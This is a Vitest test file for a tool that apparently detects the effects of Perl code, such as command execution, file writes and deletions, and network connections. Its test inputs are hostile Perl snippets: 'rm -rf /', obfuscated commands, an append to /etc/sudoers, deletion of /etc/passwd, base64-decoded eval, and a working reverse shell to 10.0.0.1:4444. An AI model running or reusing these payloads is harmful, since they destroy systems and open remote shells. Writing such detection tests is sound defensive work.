import { describe, expect, it } from 'vitest';
import { effectsOf, of } from '../../../../test/support/code-effects.js';

const pl = effectsOf('perl');

describe('perl producer', () => {
  it('states system, exec, backticks and piped opens', () => {
    expect(of(pl('system("rm -rf /");'), 'exec')[0]?.code).toBe('rm -rf /');
    expect(of(pl('system "rm", "-rf", "/";'), 'exec')[0]).toMatchObject({ program: 'rm', argv: ['rm', '-rf', '/'] });
    expect(of(pl('my $x = `id`;'), 'exec')[0]?.code).toBe('id');
    expect(of(pl('my $c = "r" . "m -rf /"; system($c);'), 'exec')[0]?.code).toBe('rm -rf /');
    expect(of(pl('open(my $f, "-|", "id");'), 'exec')[0]?.code).toBe('id');
    expect(of(pl('system(pack("H*", "6964"));'), 'exec')[0]?.code).toBe('id');
  });

  it('states files, reverse shells and eval of decoded code', () => {
    expect(of(pl('open(my $f, ">>", "/etc/sudoers"); print $f "x";'), 'write')[0]).toMatchObject({ mode: 'append', path: { path: '/etc/sudoers' } });
    expect(of(pl('unlink "/etc/passwd";'), 'delete')[0]?.path.path).toBe('/etc/passwd');
    const shell = pl('use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");');
    expect(of(shell, 'connect')[0]).toMatchObject({ host: '10.0.0.1', port: 4444, shell: true });
    const dec = pl('use MIME::Base64; eval(decode_base64("dW5saW5rICIvZXRjL3Bhc3N3ZCI7"));');
    expect(of(dec, 'delete')[0]?.path.path).toBe('/etc/passwd');
    expect(pl('print join(",", map { $_ * 2 } (1, 2, 3)), "\\n";')).toEqual([]);
  });
});
